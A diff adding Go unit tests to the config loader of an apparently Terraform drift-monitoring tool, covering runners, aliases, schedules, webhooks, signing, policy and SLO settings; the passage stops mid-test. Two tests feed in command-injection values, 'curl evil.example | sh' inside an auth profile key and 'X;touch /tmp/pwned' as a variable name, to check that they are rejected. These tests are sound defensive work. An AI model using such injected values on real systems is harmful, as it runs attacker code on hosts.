@@ -1,10 +1,16 @@
 package config
 
 import (
+	"encoding/base64"
 	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/terradrift-watcher/internal/signing"
 )
 
 func TestLoadConfig(t *testing.T) {
@@ -139,3 +145,991 @@ func TestGetNotifier(t *testing.T) {
 		t.Error("Expected error for non-existent notifier, got nil")
 	}
 }
+
+func TestLoadConfig_RemoteRunner(t *testing.T) {
+	tempDir := t.TempDir()
+	configPath := filepath.Join(tempDir, "test-config.yml")
+
+	// Remote project paths only exist on the runner, so they must not be resolved or checked locally
+	configContent := `
+runners:
+  - name: bastion
+    type: ssh
+    host: bastion.internal
+    user: terraform
+    work_dir: /srv/terraform
+
+projects:
+  - name: remote-project
+    path: stacks/prod
+    runner: bastion
+`
+	if err := os.WriteFile(configPath, []byte(configContent), 0644); err != nil {
+		t.Fatalf("Failed to create test config file: %v", err)
+	}
+
+	config, err := LoadConfig(configPath)
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	if config.Projects[0].Path != "stacks/prod" {
+		t.Errorf("Expected remote path to stay 'stacks/prod', got '%s'", config.Projects[0].Path)
+	}
+
+	// Unknown runners are rejected
+	configContent = `
+projects:
+  - name: remote-project
+    path: stacks/prod
+    runner: missing
+`
+	if err := os.WriteFile(configPath, []byte(configContent), 0644); err != nil {
+		t.Fatalf("Failed to create test config file: %v", err)
+	}
+	if _, err := LoadConfig(configPath); err == nil {
+		t.Error("Expected error for unknown runner, got nil")
+	}
+
+	// Auth profile settings are exported in the runner's shell, so their names must be safe there
+	configContent = `
+runners:
+  - name: bastion
+    type: ssh
+    host: bastion.internal
+
+auth_profiles:
+  - name: prod
+    provider: aws
+    config:
+      "AWS_PROFILE=x; curl evil.example | sh; X": "1"
+
+projects:
+  - name: remote-project
+    path: stacks/prod
+    runner: bastion
+    auth_profile: prod
+`
+	if err := os.WriteFile(configPath, []byte(configContent), 0644); err != nil {
+		t.Fatalf("Failed to create test config file: %v", err)
+	}
+	if _, err := LoadConfig(configPath); err == nil || !strings.Contains(err.Error(), "environment variable name") {
+		t.Errorf("Expected error for an auth profile setting that is not a variable name, got %v", err)
+	}
+}
+
+func TestLoadConfig_Aliases(t *testing.T) {
+	tempDir := t.TempDir()
+	configPath := filepath.Join(tempDir, "test-config.yml")
+
+	configContent := `
+projects:
+  - name: core-network
+    path: .
+    aliases: [network, vpc]
+  - name: db
+    path: .
+`
+	if err := os.WriteFile(configPath, []byte(configContent), 0644); err != nil {
+		t.Fatalf("Failed to create test config file: %v", err)
+	}
+	config, err := LoadConfig(configPath)
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	if got := config.Projects[0].OriginalName(); got != "network" {
+		t.Errorf("Expected the first alias to be the original name, got %s", got)
+	}
+	if got := config.Projects[1].OriginalName(); got != "db" {
+		t.Errorf("Expected a project without aliases to keep its name, got %s", got)
+	}
+	if aliases := config.ProjectAliases(); len(aliases) != 2 || aliases["vpc"] != "core-network" {
+		t.Errorf("Expected both aliases to map to core-network, got %v", aliases)
+	}
+
+	// An alias naming another project would mix up their state
+	configContent = `
+projects:
+  - name: core-network
+    path: .
+    aliases: [db]
+  - name: db
+    path: .
+`
+	if err := os.WriteFile(configPath, []byte(configContent), 0644); err != nil {
+		t.Fatalf("Failed to create test config file: %v", err)
+	}
+	if _, err := LoadConfig(configPath); err == nil {
+		t.Error("Expected error for an alias naming another project, got nil")
+	}
+}
+
+func TestAdaptiveSchedulingIntervals(t *testing.T) {
+	valid := &AdaptiveScheduling{Enabled: true, MinInterval: "1h", MaxInterval: "24h"}
+	minInterval, maxInterval, err := valid.Intervals()
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if minInterval.Hours() != 1 || maxInterval.Hours() != 24 {
+		t.Errorf("Expected 1h/24h, got %v/%v", minInterval, maxInterval)
+	}
+
+	inverted := &AdaptiveScheduling{Enabled: true, MinInterval: "24h", MaxInterval: "1h"}
+	if _, _, err := inverted.Intervals(); err == nil {
+		t.Error("Expected error when min_interval exceeds max_interval, got nil")
+	}
+
+	invalid := &AdaptiveScheduling{Enabled: true, MinInterval: "soon", MaxInterval: "1h"}
+	if _, _, err := invalid.Intervals(); err == nil {
+		t.Error("Expected error for unparsable interval, got nil")
+	}
+}
+
+func TestParseDuration(t *testing.T) {
+	tests := map[string]time.Duration{
+		"90m": 90 * time.Minute,
+		"72h": 72 * time.Hour,
+		"3d":  72 * time.Hour,
+		"0d":  0,
+	}
+	for input, expected := range tests {
+		got, err := ParseDuration(input)
+		if err != nil {
+			t.Errorf("ParseDuration(%q) returned error: %v", input, err)
+			continue
+		}
+		if got != expected {
+			t.Errorf("ParseDuration(%q) = %v, expected %v", input, got, expected)
+		}
+	}
+
+	for _, input := range []string{"", "d", "1.5d", "-1d", "soon"} {
+		if _, err := ParseDuration(input); err == nil {
+			t.Errorf("Expected error for ParseDuration(%q), got nil", input)
+		}
+	}
+}
+
+func TestParseSize(t *testing.T) {
+	tests := map[string]int64{
+		"1024":  1024,
+		"512KB": 512 << 10,
+		"50MB":  50 << 20,
+		"1 gb":  1 << 30,
+		"10B":   10,
+	}
+	for input, expected := range tests {
+		got, err := ParseSize(input)
+		if err != nil {
+			t.Errorf("ParseSize(%q) returned error: %v", input, err)
+			continue
+		}
+		if got != expected {
+			t.Errorf("ParseSize(%q) = %d, expected %d", input, got, expected)
+		}
+	}
+
+	for _, input := range []string{"", "MB", "1.5MB", "-1KB", "large"} {
+		if _, err := ParseSize(input); err == nil {
+			t.Errorf("Expected error for ParseSize(%q), got nil", input)
+		}
+	}
+}
+
+func TestHTTPClientNetwork(t *testing.T) {
+	tests := map[string]string{"": "tcp", "4": "tcp4", "6": "tcp6"}
+	for version, expected := range tests {
+		got, err := (&HTTPClient{IPVersion: version}).Network()
+		if err != nil || got != expected {
+			t.Errorf("Network() for ip_version %q = %q, %v; expected %q", version, got, err, expected)
+		}
+	}
+	if _, err := (&HTTPClient{IPVersion: "5"}).Network(); err == nil {
+		t.Errorf("Expected error for ip_version 5, got nil")
+	}
+}
+
+func TestDigestDueSince(t *testing.T) {
+	digest := Digest{To: []string{"lead@example.com"}}
+	morning := time.Date(2024, 3, 5, 8, 0, 0, 0, time.UTC)
+	afternoon := time.Date(2024, 3, 5, 14, 0, 0, 0, time.UTC)
+
+	due, err := digest.DueSince(morning)
+	if err != nil {
+		t.Fatalf("DueSince returned error: %v", err)
+	}
+	if want := time.Date(2024, 3, 4, 9, 0, 0, 0, time.UTC); !due.Equal(want) {
+		t.Errorf("Before 09:00 expected yesterday's digest %v, got %v", want, due)
+	}
+
+	due, _ = digest.DueSince(afternoon)
+	if want := time.Date(2024, 3, 5, 9, 0, 0, 0, time.UTC); !due.Equal(want) {
+		t.Errorf("After 09:00 expected today's digest %v, got %v", want, due)
+	}
+
+	if _, err := (Digest{At: "9am"}).DueSince(morning); err == nil {
+		t.Errorf("Expected error for an invalid digest time")
+	}
+}
+
+func TestLoadConfig_VarsDir(t *testing.T) {
+	tempDir := t.TempDir()
+	for _, dir := range []string{"app", "vars/group_vars/prod", "vars/project_vars"} {
+		if err := os.MkdirAll(filepath.Join(tempDir, dir), 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	files := map[string]string{
+		"vars/group_vars/all.yaml": "vars:\n  region: us-east-1\n  tags: {Team: platform}\nvar_files: [common.tfvars]\n",
+		"vars/group_vars/eu.yml":   "vars:\n  region: eu-west-1\n",
+		// Files of a group directory are merged in lexical order
+		"vars/group_vars/prod/10-size.yaml": "vars:\n  instance_count: 3\n",
+		"vars/group_vars/prod/20-env.yaml":  "vars:\n  env: prod\nvar_files: [prod.tfvars]\n",
+		"vars/project_vars/app.yaml":        "vars:\n  instance_count: 5\n",
+		"config.yml": `
+vars_dir: vars
+projects:
+  - name: app
+    path: app
+    groups: [eu, prod]
+    vars:
+      env: production
+    var_files: [common.tfvars]
+`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tempDir, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	config, err := LoadConfig(filepath.Join(tempDir, "config.yml"))
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+
+	want := map[string]string{
+		"region":         "eu-west-1",
+		"tags":           `{"Team":"platform"}`,
+		"instance_count": "5",
+		"env":            "production",
+	}
+	got := config.Projects[0].VarValues()
+	if len(got) != len(want) {
+		t.Errorf("Expected vars %v, got %v", want, got)
+	}
+	for name, value := range want {
+		if got[name] != value {
+			t.Errorf("Expected %s = %s, got %q", name, value, got[name])
+		}
+	}
+	// Listing common.tfvars again on the project moves it last, above prod.tfvars
+	if files := config.Projects[0].VarFiles; len(files) != 2 || files[0] != "prod.tfvars" || files[1] != "common.tfvars" {
+		t.Errorf("Expected var files [prod.tfvars common.tfvars], got %v", files)
+	}
+
+	// Groups without any vars are rejected as likely typos
+	configContent := "vars_dir: vars\nprojects:\n  - name: app\n    path: app\n    groups: [staging]\n"
+	if err := os.WriteFile(filepath.Join(tempDir, "config.yml"), []byte(configContent), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadConfig(filepath.Join(tempDir, "config.yml")); err == nil {
+		t.Error("Expected error for an unknown var group, got nil")
+	}
+}
+
+func TestDigestDueSinceTimezone(t *testing.T) {
+	// 09:00 in Tokyo is midnight UTC
+	digest := Digest{To: []string{"lead@example.com"}, Timezone: "Asia/Tokyo"}
+	due, err := digest.DueSince(time.Date(2024, 3, 5, 1, 0, 0, 0, time.UTC))
+	if err != nil {
+		t.Fatalf("DueSince returned error: %v", err)
+	}
+	if want := time.Date(2024, 3, 5, 0, 0, 0, 0, time.UTC); !due.Equal(want) {
+		t.Errorf("Expected the digest due at %v, got %v", want, due)
+	}
+
+	if _, err := (Digest{Timezone: "Mars/Olympus"}).DueSince(time.Now()); err == nil {
+		t.Errorf("Expected error for an unknown time zone")
+	}
+}
+
+func TestLoadConfig_SuppressionWindows(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	base := `
+timezone: America/New_York
+projects:
+  - name: app
+    path: ./app
+    tags: [prod]
+`
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(extra string) (*Config, error) {
+		if err := os.WriteFile(configPath, []byte(base+extra), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write(`
+suppression_windows:
+  - name: weekend-maintenance
+    schedule: "0 22 * * fri"
+    duration: 8h
+    tags: [prod]
+  - name: tokyo
+    schedule: "CRON_TZ=Asia/Tokyo 0 1 * * *"
+    duration: 1h
+    projects: [other]
+`)
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	project := cfg.Projects[0]
+
+	// Friday 22:00 in New York is Saturday 03:00 UTC (EDT)
+	window, until := cfg.SuppressedBy(project, time.Date(2024, 6, 8, 5, 0, 0, 0, time.UTC))
+	if window == nil || window.Name != "weekend-maintenance" {
+		t.Fatalf("Expected the weekend window to be open, got %+v", window)
+	}
+	if want := time.Date(2024, 6, 8, 10, 0, 0, 0, time.UTC); !until.Equal(want) {
+		t.Errorf("Expected the window to close at %v, got %v", want, until)
+	}
+	if window, _ := cfg.SuppressedBy(project, time.Date(2024, 6, 8, 11, 0, 0, 0, time.UTC)); window != nil {
+		t.Errorf("Expected no open window after it closed, got %s", window.Name)
+	}
+	// The Tokyo window is open at 16:30 UTC but does not cover the project
+	if window, _ := cfg.SuppressedBy(project, time.Date(2024, 6, 8, 16, 30, 0, 0, time.UTC)); window != nil {
+		t.Errorf("Expected the Tokyo window not to cover app, got %s", window.Name)
+	}
+
+	for _, invalid := range []string{
+		"timezone: Nowhere/City\n",
+		"schedule: \"0 25 * * *\"\n",
+		"schedule: \"0 0 30 2 *\"\n",
+		"schedule: \"@hourly\"\ncheck_interval: 1h\n",
+		"suppression_windows:\n  - name: w\n    schedule: \"TZ=Bad/Zone 0 1 * * *\"\n    duration: 1h\n",
+		"suppression_windows:\n  - name: w\n    schedule: \"0 1 * * *\"\n",
+	} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_ErrorRoutes(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	base := `
+projects:
+  - name: app
+    path: ./app
+notifiers:
+  - name: security
+    type: stdout
+`
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(extra string) (*Config, error) {
+		if err := os.WriteFile(configPath, []byte(base+extra), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("error_routes:\n  - categories: [auth]\n    notifiers: [security]\n  - notifiers: [security]\n    projects: [other]\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if !cfg.ErrorRoutes[0].Matches("app", "auth") || cfg.ErrorRoutes[0].Matches("app", "lock") {
+		t.Errorf("Expected the first route to take auth failures only")
+	}
+	if cfg.ErrorRoutes[1].Matches("app", "lock") || !cfg.ErrorRoutes[1].Matches("other", "lock") {
+		t.Errorf("Expected the second route to take every failure of 'other' only")
+	}
+
+	for _, invalid := range []string{
+		"error_routes:\n  - categories: [auth]\n",
+		"error_routes:\n  - notifiers: [missing]\n",
+		"error_routes:\n  - categories: [network]\n    notifiers: [security]\n",
+	} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_RunWebhooks(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	base := `
+projects:
+  - name: app
+    path: ./app
+notifiers:
+  - name: ops
+    type: stdout
+`
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(extra string) (*Config, error) {
+		if err := os.WriteFile(configPath, []byte(base+extra), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("run_webhooks:\n  - url: https://airflow.example.com/hook\n  - url: https://jenkins.example.com/hook\n    events: [run.finished]\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if !cfg.RunWebhooks[0].Wants("run.started") || !cfg.RunWebhooks[0].Wants("run.finished") {
+		t.Errorf("Expected a webhook without events to receive both")
+	}
+	if cfg.RunWebhooks[1].Wants("run.started") || !cfg.RunWebhooks[1].Wants("run.finished") {
+		t.Errorf("Expected the second webhook to receive run.finished only")
+	}
+
+	for _, invalid := range []string{
+		"run_webhooks:\n  - events: [run.finished]\n",
+		"run_webhooks:\n  - url: ftp://example.com/hook\n",
+		"run_webhooks:\n  - url: https://example.com/hook\n    events: [drift.detected]\n",
+	} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_ProjectEnv(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(env string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n    env:\n" + env
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("      TF_VAR_region: eu-west-1\n      VAULT_TOKEN: s.abcdef123456\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.Projects[0].Env["TF_VAR_region"] != "eu-west-1" {
+		t.Errorf("Expected the project env, got %v", cfg.Projects[0].Env)
+	}
+	secrets := cfg.Secrets()
+	if !containsValue(secrets, "s.abcdef123456") || containsValue(secrets, "eu-west-1") {
+		t.Errorf("Expected only the token to be a secret, got %v", secrets)
+	}
+
+	for _, invalid := range []string{"\"BAD NAME\"", "\"1ST\"", "\"X;touch /tmp/pwned\"", "\"A-B\""} {
+		if _, err := write("      " + invalid + ": x\n"); err == nil {
+			t.Errorf("Expected an error for the variable name %s", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_ProjectTimeouts(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(timeouts string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n    timeouts:\n" + timeouts
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("      init: 5m\n      plan: 1h\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	initTimeout, planTimeout, err := cfg.Projects[0].Timeouts.Durations()
+	if err != nil || initTimeout != 5*time.Minute || planTimeout != time.Hour {
+		t.Errorf("Expected 5m and 1h, got %v, %v, %v", initTimeout, planTimeout, err)
+	}
+
+	for _, invalid := range []string{"      init: soon\n", "      plan: 0s\n"} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_Signing(t *testing.T) {
+	tempDir := t.TempDir()
+	privatePEM, _, err := signing.GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(tempDir, "signing.key"), privatePEM, 0600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(keyFile string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\nsigning:\n  key_file: " + keyFile + "\n"
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("signing.key")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.Signing.KeyFile != filepath.Join(tempDir, "signing.key") {
+		t.Errorf("Expected the key file relative to the config, got %s", cfg.Signing.KeyFile)
+	}
+	if _, err := write("missing.key"); err == nil {
+		t.Error("Expected an error for a missing signing key")
+	}
+}
+
+func TestLoadConfig_Metadata(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(metadata string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\nmetadata:\n" + metadata
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	MetadataFlags = map[string]string{"cluster": "eu-2", "operator": "platform"}
+	defer func() { MetadataFlags = nil }()
+	cfg, err := write("  environment: prod\n  cluster: eu-1\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	want := map[string]string{"environment": "prod", "cluster": "eu-2", "operator": "platform"}
+	if !reflect.DeepEqual(cfg.Metadata, want) {
+		t.Errorf("Expected the flags merged over the config, got %v", cfg.Metadata)
+	}
+
+	if _, err := write("  \"aws-region\": eu-west-1\n"); err == nil {
+		t.Error("Expected an error for a key that cannot label metrics")
+	}
+}
+
+func TestLoadConfig_VerboseLog(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(verboseLog string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + verboseLog
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	maxLines, chunkLines, interval, err := cfg.VerboseLog.Limits()
+	if err != nil || maxLines != DefaultVerboseMaxLines || chunkLines != DefaultVerboseChunkLines || interval != DefaultVerboseChunkInterval {
+		t.Errorf("Expected the defaults, got %d, %d, %v, %v", maxLines, chunkLines, interval, err)
+	}
+
+	cfg, err = write("verbose_log:\n  max_lines: 300\n  chunk_interval: 0s\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	maxLines, chunkLines, interval, err = cfg.VerboseLog.Limits()
+	if err != nil || maxLines != 300 || chunkLines != DefaultVerboseChunkLines || interval != 0 {
+		t.Errorf("Expected 300 lines without pauses, got %d, %d, %v, %v", maxLines, chunkLines, interval, err)
+	}
+
+	if _, err := write("verbose_log:\n  chunk_interval: often\n"); err == nil {
+		t.Error("Expected an error for an invalid chunk_interval")
+	}
+}
+
+func TestLoadConfig_Policy(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(policy string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + policy
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("policy:\n  stages:\n    - tool: tflint\n    - tool: checkov\n      args: [\"--framework\", \"terraform\"]\n      timeout: 10m\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if len(cfg.Policy.Stages) != 2 || cfg.Policy.Stages[1].Args[1] != "terraform" {
+		t.Errorf("Expected two stages, got %+v", cfg.Policy.Stages)
+	}
+	if cfg.Policy.Severity() != DefaultPolicyNotifySeverity {
+		t.Errorf("Expected the default notify severity, got %s", cfg.Policy.Severity())
+	}
+
+	for name, policy := range map[string]string{
+		"no stages":        "policy:\n  notify_severity: low\n",
+		"unknown tool":     "policy:\n  stages:\n    - tool: semgrep\n",
+		"invalid timeout":  "policy:\n  stages:\n    - tool: tflint\n      timeout: soon\n",
+		"bad severity":     "policy:\n  stages:\n    - tool: tflint\n  notify_severity: urgent\n",
+		"unknown notifier": "policy:\n  stages:\n    - tool: tflint\n  notifiers: [pager]\n",
+	} {
+		if _, err := write(policy); err == nil {
+			t.Errorf("Expected an error for %s", name)
+		}
+	}
+}
+
+func TestLoadConfig_ReadOnlyCheck(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(check string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + check
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("read_only_check:\n  enforce: true\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if interval, err := cfg.ReadOnlyCheck.Every(); err != nil || interval != DefaultReadOnlyCheckInterval {
+		t.Errorf("Expected the default interval, got %v, %v", interval, err)
+	}
+
+	cfg, err = write("read_only_check:\n  interval: 12h\n  allow: [s3:PutObject]\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if interval, _ := cfg.ReadOnlyCheck.Every(); interval != 12*time.Hour {
+		t.Errorf("Expected 12h, got %v", interval)
+	}
+
+	if _, err := write("read_only_check:\n  interval: never\n"); err == nil {
+		t.Error("Expected an error for an invalid interval")
+	}
+	if _, err := write("read_only_check:\n  notifiers: [pager]\n"); err == nil {
+		t.Error("Expected an error for an unknown notifier")
+	}
+}
+
+func TestLoadConfig_ConfirmAfter(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(project, global string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + project + global
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("", "confirm_after: 2\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	confirmation, err := cfg.DriftConfirmation(cfg.Projects[0])
+	if err != nil || confirmation.Scans != 2 {
+		t.Fatalf("Expected 2 scans, got %+v, %v", confirmation, err)
+	}
+	now := time.Now()
+	if confirmation.Confirmed(1, now, now) || !confirmation.Confirmed(2, now, now) {
+		t.Error("Expected drift to be confirmed on its second scan")
+	}
+
+	cfg, err = write("    confirm_after: 30m\n", "confirm_after: 3\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	confirmation, _ = cfg.DriftConfirmation(cfg.Projects[0])
+	if confirmation.Duration != 30*time.Minute {
+		t.Fatalf("Expected the project's 30m, got %+v", confirmation)
+	}
+	if confirmation.Confirmed(5, now.Add(-10*time.Minute), now) || !confirmation.Confirmed(1, now.Add(-time.Hour), now) {
+		t.Error("Expected drift to be confirmed once it is 30m old")
+	}
+
+	if confirmation, _ := (&Config{}).DriftConfirmation(Project{}); !confirmation.Confirmed(1, now, now) {
+		t.Error("Expected drift to be confirmed at once by default")
+	}
+
+	for _, invalid := range []string{"confirm_after: -1\n", "confirm_after: soon\n"} {
+		if _, err := write("", invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_Flapping(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(flapping string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + flapping
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.FlapThreshold() != DefaultFlapThreshold {
+		t.Errorf("Expected the default threshold, got %d", cfg.FlapThreshold())
+	}
+
+	cfg, err = write("flapping:\n  threshold: 3\n  notify_every: 12h\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if every, _ := cfg.Flapping.Every(); cfg.FlapThreshold() != 3 || every != 12*time.Hour {
+		t.Errorf("Expected 3 changes and 12h, got %d and %v", cfg.FlapThreshold(), every)
+	}
+
+	for _, invalid := range []string{"flapping:\n  threshold: 10\n", "flapping:\n  notify_every: often\n"} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_DriftExport(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(export string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + export
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("drift_export:\n  destination: s3://policies/terradrift/bundle.tar.gz\n  format: bundle\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.DriftExport.Format != ExportBundle {
+		t.Errorf("Expected the bundle format, got %q", cfg.DriftExport.Format)
+	}
+
+	cfg, err = write("drift_export:\n  destination: https://opa.example.com/bundles/drift\n" +
+		"  tls_cert_file: certs/client.pem\n  tls_key_file: certs/client.key\n  tls_ca_file: /etc/ssl/ca.pem\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.DriftExport.TLSCertFile != filepath.Join(tempDir, "certs", "client.pem") || cfg.DriftExport.TLSCAFile != "/etc/ssl/ca.pem" {
+		t.Errorf("Expected TLS files relative to the config file, got %q and %q", cfg.DriftExport.TLSCertFile, cfg.DriftExport.TLSCAFile)
+	}
+
+	for _, invalid := range []string{
+		"drift_export:\n  format: bundle\n",
+		"drift_export:\n  destination: drift.json\n  format: rego\n",
+		"drift_export:\n  destination: s3://policies\n",
+		"drift_export:\n  destination: https://opa.example.com/drift\n  tls_cert_file: client.pem\n",
+	} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_SLOs(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(slos string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n    tags: [prod]\n" +
+			"notifiers:\n  - name: pager\n    type: stdout\n" + slos
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("slos:\n  - name: prod\n    tags: [prod]\n    resolve_within: 1d\n    target: 95\n    notifiers: [pager]\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	slo := cfg.SLOs[0]
+	if within, target := slo.Objective(); within != 24*time.Hour || target != 95 {
